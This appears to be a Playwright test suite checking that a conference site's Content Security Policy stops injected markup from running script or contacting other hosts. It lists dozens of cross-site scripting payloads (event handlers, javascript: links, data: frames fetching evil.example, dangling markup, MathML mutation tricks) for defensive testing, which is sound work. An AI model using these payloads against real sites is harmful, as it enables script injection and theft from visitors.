"""What visitors are promised should a stranger's markup get into a page: nothing runs, nothing leaves, on any host.

The policy (mlw_build/site/content_security_policy.py) is in each page; hosts that send headers send it too. No page
of ours breaks it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.browser.conftest import FILES, publish, served
from tests.browser.test_pages import KINDS

pytestmark = pytest.mark.browser

STREAMS = {
    "youtube": "https://www.youtube.com/watch?v=aqz-KE-bpKQ",
    "vimeo": "https://vimeo.com/76979871",
    "vimeo-event": "https://vimeo.com/event/1234567",
    "twitch": "https://www.twitch.tv/someone",
    "dailymotion": "https://www.dailymotion.com/video/x8abcde",
    "slideslive": "https://slideslive.com/38912345",
    "media-ccc": "https://media.ccc.de/v/some-talk",
    "peertube": "https://video.example.org/w/kkGMgK9ZtnKfYAgnEtQxbv",
    "file": "https://media.example.org/live.mp4",
}

NOTED = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`);
});
"""

RUN = "document.documentElement.dataset.ran='yes'"
EVIL = "https://evil.example"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script of another host": f"<script src={EVIL}/x.js></script>",
    "script as data": f'<script src="data:text/javascript,{RUN}"></script>',
    "module": f"<script type=module>{RUN}</script>",
    "module that imports": f"<script type=module src=\"data:text/javascript,import('{EVIL}/x.js')\"></script>",
    "import map": f'<script type=importmap>{{"imports": {{"./a": "{EVIL}/x.js"}}}}</script>',
    "picture that fails": f'<img src=x onerror="{RUN}">',
    "svg that loads": f'<svg onload="{RUN}"></svg>',
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "animation that begins": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "details that open": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "field with focus": f'<input autofocus onfocus="{RUN}">',
    "style that moves": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    "video": f'<video src=x onerror="{RUN}"></video>',
    "video's source": f'<video><source onerror="{RUN}"></video>',
    "body": f'<body onpageshow="{RUN}">',
    "frame of a text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame of a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "frame of data": f"<iframe src=\"data:text/html,<script>fetch('{EVIL}')</script>\"></iframe>",
    "frame of another host": f"<iframe src={EVIL}/></iframe>",
    "object": f"<object data={EVIL}/x></object>",
    "object of data": f"<object data=\"data:text/html,<script>fetch('{EVIL}')</script>\"></object>",
    "embed": f"<embed src={EVIL}/x>",
    "picture of another host": f"<img src={EVIL}/x.png>",
    "dangling markup": f"<img src='{EVIL}/?",
    "style of another host": f"<link rel=stylesheet href={EVIL}/x.css>",
    "style in the page": f"<style>body {{ background: url({EVIL}/x) }} :root {{ --broken: yes }}</style>",
    "style of an element": f'<b style="background: url({EVIL}/x)">x</b>',
    "font": f"<style>@font-face {{ font-family: x; src: url({EVIL}/x) }}</style><b style='font-family: x'>x</b>",
    "link that is fetched before": f"<link rel=preload as=script href={EVIL}/x.js>",
    "module that is fetched before": f"<link rel=modulepreload href={EVIL}/x.js>",
    "import of HTML": f"<link rel=import href={EVIL}/x.html>",
    "manifest": f"<link rel=manifest href={EVIL}/x>",
    "sound": f"<audio autoplay src={EVIL}/x.mp3></audio>",
    "meta that goes to a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "a wider policy": f'<meta http-equiv=Content-Security-Policy content="script-src *"><script>{RUN}</script>',
    "a template": f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
}

CLICKED = {
    "link to a script": f'<a class=evil href="javascript:{RUN}">x</a>',
    "link to a script in svg": f'<svg><a class=evil href="javascript:{RUN}"><text y=50>x</text></a></svg>',
    "handler": f'<b class=evil onclick="{RUN}">x</b>',
    "form": f"<form action={EVIL}/><button class=evil>x</button></form>",
    "form that runs": f'<form action="javascript:{RUN}"><button class=evil>x</button></form>',
    "button of another form": f"<form><button class=evil formaction={EVIL}/>x</button></form>",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The usual small site, with a session for each kind of player."""
    sessions = "\n".join(
        f"  - {{id: {name}, title: On {name}, start: 1{index}:00, end: 1{index}:30, stream: '{stream}'}}"
        for index, (name, stream) in enumerate(STREAMS.items())
    )
    files = {
        **FILES,
        "content/conference.yaml": FILES["content/conference.yaml"].replace("[media", "[video.example.org, media"),
        "content/programme/day-3.yaml": f"date: 2020-10-14\nsessions:\n{sessions}\n",
    }
    return publish(tmp_path_factory.mktemp("policy"), files)


@pytest.fixture(scope="module")
def host(site: Path) -> Iterator[str]:
    """Its address on a host that sends no headers."""
    with served(site) as (top, _):
        yield top


def header_of(site: Path) -> dict[str, str]:
    """The headers of every file, as a host reads them from `_headers`."""
    first = re.split(r"\n(?=/)", (site / "_headers").read_text(encoding="utf-8"))[0]
    return dict(line.strip().split(": ", 1) for line in first.splitlines()[1:])


class Visitor:
    """Opens pages as if the sanitiser had let a stranger's markup through, and notes what is asked of another host.

    The markup is right after the policy, in the text, and at the end. Browsers tell of requests that the policy stops
    too; these never come here.
    """

    def __init__(self, context: BrowserContext) -> None:
        self._markup, self._headers = "", dict[str, str]()
        self.asked: list[str] = []
        self.page = context.new_page()
        context.route("**/*", self._answer)

    def open(self, address: str, markup: str, headers: dict[str, str] | None = None) -> Page:
        """The page, as soon as it is there with all that it loads."""
        self._markup, self._headers = markup, headers or {}
        self.asked.clear()
        self.page.goto(address, wait_until="load")
        return self.page

    def _answer(self, route: Route) -> None:
        if route.request.url.startswith(EVIL):
            self.asked.append(route.request.url)
            route.abort()
            return
        if route.request.resource_type != "document" or not route.request.url.startswith("http://127"):
            route.fallback()
            return
        page, markup = route.fetch().text(), self._markup
        inside = re.sub(r'(<main id="main"[^>]*>)', lambda found: found[1] + markup, page, count=1)
        route.fulfill(
            body=re.sub(r"(<meta http-equiv[^>]*>)", lambda found: found[1] + markup, inside, count=1),
            headers={"content-type": "text/html; charset=utf-8", **self._headers},
        )


@pytest.fixture(scope="module")
def visitor(browser: Browser) -> Iterator[Visitor]:
    """One for all tests: each opens its own document."""
    context = browser.new_context(service_workers="block")
    yield Visitor(context)
    context.close()


def ran(page: Page) -> bool:
    """Whether a stranger's script has run by the time that the page is drawn."""
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    return bool(page.evaluate("document.documentElement.dataset.ran"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_of_a_strangers_markup_runs_or_asks_another_host(
    visitor: Visitor, site: Path, host: str, hostile: str
) -> None:
    for headers in ({}, header_of(site)):
        page = visitor.open(f"{host}sessions/youtube/index.html", HOSTILE[hostile], headers)
        assert not ran(page)
        assert visitor.asked == []
        assert page.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--broken')") == ""


@pytest.mark.parametrize("hostile", CLICKED)
def test_nothing_runs_when_a_strangers_markup_is_pressed(visitor: Visitor, host: str, hostile: str) -> None:
    page = visitor.open(f"{host}about/index.html", CLICKED[hostile])
    click = "one => one.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))"
    page.locator("main .evil").first.evaluate(click)
    assert not ran(page)
    assert visitor.asked == []


def test_a_strangers_base_moves_no_link_and_no_script(visitor: Visitor, host: str) -> None:
    page = visitor.open(f"{host}about/index.html", f"<base href={EVIL}/>")
    assert page.evaluate("document.baseURI").startswith(host)
    assert page.locator("link[rel=stylesheet]").evaluate("link => link.sheet !== null")
    assert visitor.asked == []


def test_nothing_runs_in_a_page_from_a_folder(visitor: Visitor, site: Path) -> None:
    text = (site / "about" / "index.html").read_text(encoding="utf-8")
    copy = site / "about" / "hostile.html"
    for hostile, markup in HOSTILE.items():
        before, policy, after = re.split(r"(<meta http-equiv[^>]*>)", text, maxsplit=1)
        copy.write_text(f"{before}{policy}{markup}{after}", encoding="utf-8")
        assert not ran(visitor.open(copy.as_uri(), "")), hostile
        assert visitor.asked == [], hostile
    copy.unlink()


def test_without_the_policy_these_markups_do_run(visitor: Visitor, site: Path, host: str) -> None:
    """Or the tests above would hold nothing."""
    plain = re.sub(r"<meta http-equiv[^>]*>", "<meta http-equiv=x>", (site / "about/index.html").read_text("utf-8"))
    copy = site / "about" / "open.html"
    copy.write_text(plain, encoding="utf-8")
    page = visitor.open(f"{host}about/open.html", HOSTILE["script"] + HOSTILE["picture of another host"])
    copy.unlink()
    assert ran(page)
    assert visitor.asked != []


@pytest.mark.parametrize("headers", [False, True], ids=["meta", "header"])
@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind != "missing"])
def test_no_page_breaks_the_policy(context: BrowserContext, site: Path, host: str, kind: str, headers: bool) -> None:
    context.add_init_script(NOTED)
    page = context.new_page()
    if headers:
        sent = {"content-type": "text/html; charset=utf-8", **header_of(site)}
        context.route(host + KINDS[kind], lambda route: route.fulfill(body=route.fetch().text(), headers=sent))
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(host + KINDS[kind], wait_until="networkidle")
    for button in page.locator(".zone-switch:visible").all()[:1]:
        button.click()
        page.get_by_role("dialog").wait_for()
        page.keyboard.press("Escape")
    page.emulate_media(media="print", color_scheme="dark")
    assert page.evaluate("window.broken") == []
    assert [text for text in said if "Failed to load resource" not in text] == []


@pytest.mark.parametrize("name", STREAMS)
def test_each_player_may_be_shown(context: BrowserContext, host: str, name: str) -> None:
    context.add_init_script(NOTED)
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.goto(f"{host}sessions/{name}/index.html", wait_until="networkidle")
    page.locator("a.stream-play").click()
    source = page.locator("iframe, video").first.get_attribute("src")
    page.wait_for_timeout(0)
    assert source in asked
    assert page.evaluate("window.broken") == []


def test_search_stars_and_the_service_worker_keep_to_the_policy(context: BrowserContext, host: str) -> None:
    context.add_init_script(NOTED)
    page = context.new_page()
    page.goto(f"{host}agenda/2020-10-12/index.html", wait_until="networkidle")
    page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
    page.locator("button.star").first.click()
    assert page.evaluate("window.broken") == []
    page.goto(f"{host}my/index.html")
    expect(page.locator("[data-my] .lines li")).to_have_count(1)
    assert page.evaluate("window.broken") == []
    page.goto(f"{host}search/index.html")
    page.locator("#q").fill("opening")
    expect(page.locator(".results li").first).to_be_visible()
    assert page.evaluate("window.broken") == []


def test_every_file_of_html_begins_with_the_policy(site: Path) -> None:
    for file in site.rglob("*.html"):
        text = file.read_text(encoding="utf-8")
        before, policy, _ = text.partition('<meta http-equiv="Content-Security-Policy"')
        assert policy, file
        assert not re.search(r"<(?:script|link|style|img|title)", before), file


def test_a_text_that_becomes_html_is_refused_by_the_browser(page: Page, host: str) -> None:
    page.goto(f"{host}about/index.html", wait_until="networkidle")
    refused = page.evaluate("""() => {
      try { document.querySelector("main").innerHTML = "<b>x</b>"; return false; } catch { return true; }
    }""")
    assert refused
    other = "(() => { try { trustedTypes.createPolicy('x', {}); } catch { return 'refused'; } })()"
    assert page.evaluate(other) == "refused"
